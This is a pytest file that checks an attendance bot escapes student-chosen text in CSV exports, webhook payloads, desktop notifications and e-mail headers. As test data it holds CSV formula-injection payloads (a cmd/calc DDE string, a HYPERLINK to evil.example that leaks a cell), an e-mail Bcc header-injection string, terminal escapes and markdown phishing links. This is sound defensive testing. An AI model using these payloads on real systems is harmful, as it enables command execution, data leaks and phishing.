"""Text a student or a roster chose, on its way out of rollcall: CSV cells, webhook payloads, desktop
notifications, e-mail headers, delivery records. Each case is checked on what really arrives: a CSV parsed
back with the csv module, a JSON body posted to a real local HTTP server, a message through a real SMTP
server, the rows the worker records."""
from __future__ import annotations

import base64
import csv
import dataclasses
import email
import email.policy
import io
import json
import logging
import re
import string
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from xml.etree import ElementTree

import pytest

from bot.alerts import describe, format_text, title
from bot.alerts.desktop import DesktopChannel
from bot.alerts.email import EmailChannel
from bot.alerts.webhook import WebhookChannel, mask_url
from bot.alerts.worker import AlertDispatcher, send_test
from bot.report import csv_report, render
from bot.store import Store
from bot.types import Student
from tests.test_alerts import Hook, Recorder, RootRecords, SilentServer, email_settings, free_port, make_alert, \
    hook, settings, smtp, windows_toasts  # noqa: F401 - hook, smtp and windows_toasts are fixtures
from tests.test_report import tile

# formula payloads (OWASP's list of first characters: = + - @ tab CR)
FORMULAS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 Mareta Aliana", '=HYPERLINK("http://evil.example/?"&A1;"click")',
            "-2+3", "\t=1", "\r=1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# ------------------------------------------------------------------------------------------- CSV

def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: read as comma-separated, and as a spreadsheet in a ';' locale
    splits each cell further."""
    cells = [c for row in rows for c in row]
    return [p for c in cells for p in {c, *c.split(";")} if p.startswith(FORMULA_START)]


@pytest.fixture()
def hostile_session(tmp_path):
    """A class named like a formula, whose roster ids, names and aliases and whose participants'
    display names are the payloads."""
    students = [Student(f"S{k}" if k % 2 else payload, payload, (payload, f"{payload};=2"))
                for k, payload in enumerate(FORMULAS)]
    with Store(tmp_path) as store:
        store.upsert_students(students, "=cmd|' /C calc'!A0")
        sid = store.start_session("=cmd|' /C calc'!A0", "video:x.mp4", 10, started="2024-05-01T10:00:00Z")
        for k in range(2):
            store.add_capture(sid, f"2024-05-01T10:00:{10 * k:02d}Z", {}, [
                tile(i, s.student_id, "verified", display)
                for i, (s, display) in enumerate(zip(students, [*FORMULAS[1:], "Ana;@x"]))])
        store.end_session(sid, "done", ended="2024-05-01T10:00:30Z")
        yield store, sid, students


def test_csv_report_neutralises_every_formula_cell(hostile_session):
    store, sid, students = hostile_session
    text = render(store, sid, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert formula_cells(rows) == []
    header, *body = rows
    got = [dict(zip(header, r)) for r in body]
    # each value is kept, behind the one quote that makes a spreadsheet show it as text
    assert sorted(r["name"] for r in got) == sorted("'" + p for p in FORMULAS)
    by_name = {r["name"][1:]: r for r in got}
    assert by_name["\t=1"]["student_id"] == "'\t=1" and by_name["+1+1 Mareta Aliana"]["student_id"] == "S1"
    assert by_name["\r=1"]["display_names"] == "Ana;'@x"   # the piece after ';' too
    assert by_name[FORMULAS[0]]["display_names"] == "'+1+1 Mareta Aliana"
    assert by_name["-2+3"]["present_s"] == "20"


def test_csv_numbers_stay_numbers_and_strings_are_neutralised():
    """A negative number rollcall computed is a number, not a formula to defuse; text always is."""
    row = {f: None for f in csv_report.FIELDS}
    row.update(student_id="-1", name="=1+1", status="verified", present_s=-50, camera_on_pct=-0.5,
               display_names=["-1", "ok", "@me"])
    rows = list(csv.reader(io.StringIO(csv_report.to_csv({"students": [row]}), newline="")))
    got = dict(zip(*rows))
    assert got["present_s"] == "-50" and got["camera_on_pct"] == "-0.5"
    assert got["student_id"] == "'-1" and got["name"] == "'=1+1" and got["display_names"] == "'-1;ok;'@me"
    assert got["first_seen"] == "" and got["status"] == "verified"


@pytest.mark.parametrize("text, want", [("=1", "'=1"), ("a=1", "a=1"), ("", ""), ("a;-1;b", "a;'-1;b"),
                                        ("\r=1", "'\r=1"), ("'=1", "'=1"), (" =1", " =1")])
def test_neutralise(text, want):
    assert csv_report.neutralise(text) == want


# ------------------------------------------------------------------------------------------- webhooks

MARKDOWN = ["[Login](http://ev.il) Mareta Aliana", "**bold**", "`code`", "@everyone", "<@123>", "# heading",
            "> quote", "_x_", "~~x~~", "|| spoiler ||", "<http://ev.il>", "Ana\\*", "-# small", "1. list"]


def discord_literal(text: str) -> str:
    """`text` as Discord markdown that shows it as typed: a backslash before every ASCII punctuation
    character (written here apart from the channel's own escaper, to check it)."""
    return "".join("\\" + c if c in string.punctuation else c for c in text)


def discord_shown(markdown: str) -> str:
    """What Discord shows of escaped text: each backslash escape gives its character."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown)


def hostile(name: str):
    return dataclasses.replace(make_alert(), display_name=name, class_name=f"DL-A {name}")


@pytest.mark.parametrize("name", MARKDOWN)
def test_discord_shows_markdown_in_a_display_name_as_typed(hook, name):
    alert = hostile(name)
    WebhookChannel(hook.url, "discord").deliver([alert])
    (_, _, body), = hook.requests
    assert body["allowed_mentions"] == {"parse": []}
    emb, = body["embeds"]
    # the display name arrives escaped wherever it appears, and reads back as typed
    assert f'"{discord_literal(name)}"' in body["content"]
    assert emb["title"] == "rollcall MISMATCH: " + discord_literal(name)
    fields = {f["name"]: f["value"] for f in emb["fields"]}
    assert fields["Display name"] == discord_literal(name)
    assert fields["Class"] == discord_literal(f"DL-A {name}")
    assert discord_shown(body["content"]) == format_text(alert)
    assert discord_shown(emb["description"]) == describe(alert)


def test_discord_limits_never_cut_an_escape_in_half(hook):
    alert = hostile("*" * 3000)
    WebhookChannel(hook.url, "discord").deliver([alert])
    (_, _, body), = hook.requests
    content, emb = body["content"], body["embeds"][0]
    assert len(content) <= 2000 and len(emb["title"]) <= 256
    assert all(len(f["value"]) <= 1024 for f in emb["fields"])
    for text in (content, emb["title"], *[f["value"] for f in emb["fields"]]):
        assert (len(text) - len(text.rstrip("\\"))) % 2 == 0, text[-10:]   # no lone trailing backslash


def card_elements(node) -> list[dict]:
    """Every element (anything with a "type") in an Adaptive Card."""
    if isinstance(node, dict):
        return ([node] if "type" in node else []) + [e for v in node.values() for e in card_elements(v)]
    if isinstance(node, list):
        return [e for v in node for e in card_elements(v)]
    return []


@pytest.mark.parametrize("name", MARKDOWN)
def test_teams_card_shows_a_display_name_only_in_elements_that_read_no_markdown(hook, name):
    """Teams reads markdown in TextBlock and FactSet (Microsoft: 'Markdown is supported in TextBlock,
    Fact.Title and Fact.Value'); RichTextBlock's TextRuns read none."""
    alert = hostile(name)
    WebhookChannel(hook.url, "teams").deliver([alert])
    (_, _, body), = hook.requests
    card = body["attachments"][0]["content"]
    elements = card_elements(card["body"])
    assert {e["type"] for e in elements} == {"RichTextBlock", "TextRun", "Container"}
    runs = [e["text"] for e in elements if e["type"] == "TextRun"]
    assert title(alert) in runs and describe(alert) in runs
    assert name in runs and f"DL-A {name}" in runs                   # the facts, verbatim


def test_slack_escaping_still_holds(hook):
    alert = hostile("<!channel> [Login](http://ev.il) & <@U123>")
    WebhookChannel(hook.url, "slack").deliver([alert])
    (_, _, body), = hook.requests
    mrkdwn = [body["text"], body["blocks"][1]["text"]["text"], *[f["text"] for f in body["blocks"][2]["fields"]]]
    assert not any("<!" in t or "<@" in t for t in mrkdwn)
    assert "&lt;!channel&gt; [Login](http://ev.il) &amp; &lt;@U123&gt;" in body["text"]


# ------------------------------------------------------------------------------------------- URL secrets

SECRETS = ("s3cretpw", "XXXXsecretTOKEN", "tok123456", "SIG987654")


class EchoHook:
    """A real HTTP server that answers every POST with `status` and echoes the request line and the
    Authorization header in its body, as a careless server's error page may (with a terminal escape)."""

    def __init__(self, status: int = 403):
        self.requests = []
        hook = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                self.rfile.read(int(self.headers["Content-Length"]))
                hook.requests.append((self.path, self.headers.get("Authorization")))
                self.send_response(status)
                self.end_headers()
                self.wfile.write(f"bad request {self.path} {self.headers.get('Authorization')}\x1b[2J\r\n".encode())

            def log_message(self, *a):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def url(self, port: int | None = None) -> str:
        return (f"http://rollcall:s3cretpw@127.0.0.1:{port or self.port}/hooks/T000/XXXXsecretTOKEN"
                f"?token=tok123456&sig=SIG987654")

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def echo():
    h = EchoHook()
    yield h
    h.close()


def no_secret(*texts: str) -> None:
    for text in texts:
        assert not [s for s in SECRETS if s in text], text


def test_mask_url():
    assert mask_url("https://u:p@hooks.slack.com/services/T0/B0/XYZ?token=abc&sig=d") == \
        "https://***@hooks.slack.com/***?token=***&sig=***"
    assert mask_url("https://discord.com/api/webhooks/1/tok") == "https://discord.com/***"
    assert mask_url("http://[::1]:8080/") == "http://[::1]:8080"
    assert mask_url("http://[::1") == "(not a valid URL)"


def test_webhook_login_in_the_url_is_sent_as_basic_auth_and_never_shown(echo, tmp_path):
    """The login of `user:secret@` goes in the Authorization header (not to DNS as a host name); the
    server's error page echoes the secrets back; neither the ChannelError, the worker's records in a
    real store, its log lines, nor send_test's result holds any of them."""
    ch = WebhookChannel(echo.url())
    assert "s3cretpw" not in repr(ch)
    with Store(tmp_path / "home") as store:
        sid = store.start_session("DL-A", "test", 1)
        aid = store.add_alert(sid, "2024-05-06T10:00:00Z", "mismatch", display_name="Mareta Aliana")
        root = RootRecords()
        logging.getLogger().addHandler(root)
        try:
            d = AlertDispatcher(settings(retries=1), [ch], store.record_delivery, backoff_s=0.05)
            d.submit(dataclasses.replace(make_alert(), id=aid))
            end = time.monotonic() + 5
            while len(store.deliveries(aid)) < 2 and time.monotonic() < end:
                time.sleep(0.02)
            assert d.close(2) == 0
        finally:
            logging.getLogger().removeHandler(root)
        rows = store.deliveries(aid)
    path, auth = echo.requests[0]
    assert path == "/hooks/T000/XXXXsecretTOKEN?token=tok123456&sig=SIG987654"
    assert base64.b64decode(auth.split()[1]) == b"rollcall:s3cretpw"
    assert [(r["attempt"], r["ok"]) for r in rows] == [(1, False), (2, False)]
    assert all("HTTP 403" in r["error"] and "127.0.0.1" in r["error"] for r in rows)
    no_secret(*[r["error"] for r in rows], *[r.getMessage() for r in root.records])
    assert not [r for r in rows if HIDDEN.search(r["error"])]      # what the server said, on one line
    assert all(r["error"].endswith("\\x1b[2J") for r in rows)
    assert any("giving up" in r.getMessage() for r in root.records)
    result, = send_test([ch])
    assert not result.ok and "HTTP 403" in result.error
    no_secret(result.error)


def test_webhook_unreachable_with_a_login_names_the_host_only(echo):
    url = echo.url(port=free_port())   # nothing listens there
    with pytest.raises(Exception) as e:
        WebhookChannel(url, timeout_s=1).deliver([make_alert()])
    assert "127.0.0.1" in str(e.value) and "refused" in str(e.value).lower()
    no_secret(str(e.value))


def run_cli(args: list[str], capsys) -> tuple[int, str, str]:
    """`rollcall ARGS`; the root logger's handlers put back after (the CLI points them at this test's
    captured stderr, which is closed once the test ends)."""
    from bot.cli import main

    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        rc = main(args)
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
    out, err = capsys.readouterr()
    return rc, out, err


@pytest.fixture
def webhook_config(tmp_path):
    conf = tmp_path / "settings.toml"
    conf.write_text('[alerts]\nchannels = ["webhook"]\n\n[alerts.webhook]\nurl_env = "ROLLCALL_TEST_HOOK"\n'
                    'format = "discord"\n', encoding="utf-8")
    return ["--home", str(tmp_path / "home"), "--config", str(conf)]


def test_alerts_test_masks_the_url_secrets(echo, webhook_config, monkeypatch, capsys):
    monkeypatch.setenv("ROLLCALL_TEST_HOOK", echo.url())
    rc, out, err = run_cli([*webhook_config, "alerts", "test"], capsys)
    assert rc == 1 and len(echo.requests) == 1
    assert "HTTP 403" in out and "HTTP 403" in err and "Traceback" not in err
    assert err.strip().startswith("rollcall: error: alerts.webhook: ") and len(err.strip().splitlines()) == 1
    no_secret(out, err)


@pytest.mark.parametrize("url, why", [("http://[::1", "not a valid URL (Invalid IPv6 URL)"),
                                      ("http://host:99999/x", "Port out of range"),
                                      ("http://host/a b", "a space or a control character"),
                                      ("ftp://u:tok123456@host/", "must start with http:// or https://")])
def test_a_bad_webhook_url_is_one_line_naming_the_key(webhook_config, monkeypatch, capsys, url, why):
    monkeypatch.setenv("ROLLCALL_TEST_HOOK", url)
    rc, out, err = run_cli([*webhook_config, "alerts", "test"], capsys)
    assert rc == 1 and "Traceback" not in err
    line, = err.strip().splitlines()
    assert line.startswith("rollcall: error: alerts.webhook.url_env ($ROLLCALL_TEST_HOOK): ") and why in line
    no_secret(line)


# ------------------------------------------------------------------------------------------- desktop, e-mail

CONTROL = "Mareta\x1b[2J\x1b]0;pwned\x07 \u202eanailA\u202c\r\nX"
CONTROL_SHOWN = "Mareta\\x1b[2J\\x1b]0;pwned\\x07 \\u202eanailA\\u202c\\x0d\\x0aX"
HIDDEN = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def test_alert_texts_write_out_control_and_bidi_characters():
    alert = dataclasses.replace(make_alert(), display_name=CONTROL, student_id="G1\u202e", class_name="DL\x1b-A")
    for text in (title(alert), describe(alert), format_text(alert)):
        assert not HIDDEN.search(text), repr(text)
    assert CONTROL_SHOWN in format_text(alert) and "class DL\\x1b-A" in format_text(alert)
    assert title(alert) == "rollcall MISMATCH: " + CONTROL_SHOWN and "[G1\\u202e]'s tile" in describe(alert)


def g_strcompress(text: str) -> str:
    """What notify-send does to its BODY argument before sending it (GLib's g_strcompress): C escapes,
    octal ones giving bytes, read in the UTF-8 text."""
    simple = {b"b": b"\b", b"f": b"\f", b"n": b"\n", b"r": b"\r", b"t": b"\t", b"v": b"\v"}

    def one(m: re.Match) -> bytes:
        esc = m.group(1)
        return bytes([int(esc, 8) & 0xFF]) if esc[:1].isdigit() else simple.get(esc, esc)
    return re.sub(rb"\\([0-7]{1,3}|.)", one, text.encode(), flags=re.S).decode("utf-8", "replace")


@pytest.mark.parametrize("name", [CONTROL, "<b>Ana</b> & co", r"Ana \342\200\256 \033[31m \\ \n"])
def test_notify_send_body_shows_the_name_as_typed(tmp_path, name):
    """notify-send, stood in for by a script that records its arguments: after what notify-send does to
    the body (C escapes read) and what the server does (markup read), the text is the alert's own."""
    log = tmp_path / "argv.json"
    fake = tmp_path / "notify-send"
    fake.write_text(f"#!{sys.executable}\nimport json, sys\njson.dump(sys.argv[1:], open({str(log)!r}, 'w'))\n")
    fake.chmod(0o755)
    ch = DesktopChannel.from_settings(settings().desktop, env={"PATH": str(tmp_path)}, platform="linux")
    alert = dataclasses.replace(make_alert(), display_name=name)
    ch.deliver([alert])
    argv = json.loads(log.read_text())
    summary, body = argv[argv.index("--") + 1:]
    assert summary == title(alert) and not HIDDEN.search(summary)
    shown = "".join(ElementTree.fromstring(f"<m>{g_strcompress(body)}</m>").itertext())
    assert shown == describe(alert) + "\n" + format_text(alert)
    assert not HIDDEN.search(shown.replace("\n", ""))


def test_osascript_arguments_carry_no_control_characters(tmp_path):
    log = tmp_path / "argv.json"
    fake = tmp_path / "osascript"
    fake.write_text(f"#!{sys.executable}\nimport json, sys\njson.dump(sys.argv[1:], open({str(log)!r}, 'w'))\n")
    fake.chmod(0o755)
    ch = DesktopChannel.from_settings(settings().desktop, env={"PATH": str(tmp_path)}, platform="darwin")
    ch.deliver([dataclasses.replace(make_alert(), display_name=CONTROL)])
    argv = json.loads(log.read_text())
    assert argv[6] == "rollcall MISMATCH: " + CONTROL_SHOWN
    assert not HIDDEN.search(argv[6]) and not HIDDEN.search(argv[7].replace("\n", ""))


def test_windows_toast_carries_no_control_characters(windows_toasts):
    ch = DesktopChannel.from_settings(settings().desktop, env={}, platform="win32")
    ch.deliver([dataclasses.replace(make_alert(), display_name=CONTROL)])
    (_, note), = windows_toasts.notifications
    assert note.title == "rollcall MISMATCH: " + CONTROL_SHOWN
    assert not HIDDEN.search(note.message.replace("\n", ""))


def test_email_header_injection_in_a_display_name_adds_no_header(smtp):
    """A display name with CR/LF and a Bcc line: the alert is still sent, to the lecturer only, with the
    name written out in one Subject line."""
    ctl, inbox = smtp
    rec = Recorder()
    ch = EmailChannel.from_settings(email_settings(ctl.port), env={})
    name = "Mareta\r\nBcc: victim@evil.example\r\n\r\n<script>x</script>\x1b[2J"
    d = AlertDispatcher(settings(), [ch], rec)
    d.submit(dataclasses.replace(make_alert(1), display_name=name, class_name="DL-A\nCc: x@evil.example"))
    d.submit(dataclasses.replace(make_alert(2), display_name=name))
    assert d.close(5) == 0
    assert sorted((r[0], r[3]) for r in rec.rows) == [(1, True), (2, True)]
    for _, rcpts, raw, _ in inbox.messages:
        assert rcpts == ["lecturer@uni.example"]
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        assert msg["Bcc"] is None and msg["Cc"] is None
        assert "Mareta\\x0d\\x0aBcc: victim@evil.example\\x0d\\x0a\\x0d\\x0a<script>x</script>\\x1b[2J" \
            in msg["Subject"]
        assert not HIDDEN.search(msg["Subject"])
        text, *_ = [p for p in msg.walk() if p.get_content_type() == "text/plain"]
        html_part, = [p for p in msg.walk() if p.get_content_type() == "text/html"]
        assert "\x1b" not in text.get_content() and "<script>" not in html_part.get_content()


# ------------------------------------------------------------------------------------------- undone deliveries

def test_close_records_every_delivery_it_leaves_undone(tmp_path):
    """Alerts an e-mail digest was still sending (the server never answers), and alerts the webhook's
    rate limit held back, each get a delivery row saying they were not delivered."""
    silent = SilentServer()
    hook = Hook()
    try:
        with Store(tmp_path / "home") as store:
            sid = store.start_session("DL-A", "test", 1)
            ids = [store.add_alert(sid, "2024-05-06T10:00:00Z", "mismatch", display_name=f"S{k}") for k in range(3)]
            mail = EmailChannel.from_settings(email_settings(silent.port, digest_min=10), env={}, timeout_s=5)
            webhook = WebhookChannel(hook.url)
            d = AlertDispatcher(settings(rate_limit_per_min=1), [mail, webhook], store.record_delivery)
            for aid in ids:
                d.submit(dataclasses.replace(make_alert(), id=aid))
            t0 = time.monotonic()
            assert d.close(0.5) == 3 + 2     # three in the digest being sent, two webhooks held back
            assert time.monotonic() - t0 < 2
            rows = {aid: {r["channel"]: (r["attempt"], r["ok"], r["error"]) for r in store.deliveries(aid)}
                    for aid in ids}
            time.sleep(5)  # the hung digest's own attempt times out now: nothing more is recorded
            assert sum(len(store.deliveries(aid)) for aid in ids) == 6
    finally:
        silent.close()
        hook.close()
    for aid in ids:
        assert rows[aid]["email"] == (1, False, "no answer yet when rollcall exited")
    assert rows[ids[0]]["webhook"] == (1, True, "")
    assert rows[ids[1]]["webhook"] == rows[ids[2]]["webhook"] == \
        (1, False, "not sent: rollcall exited before its turn")
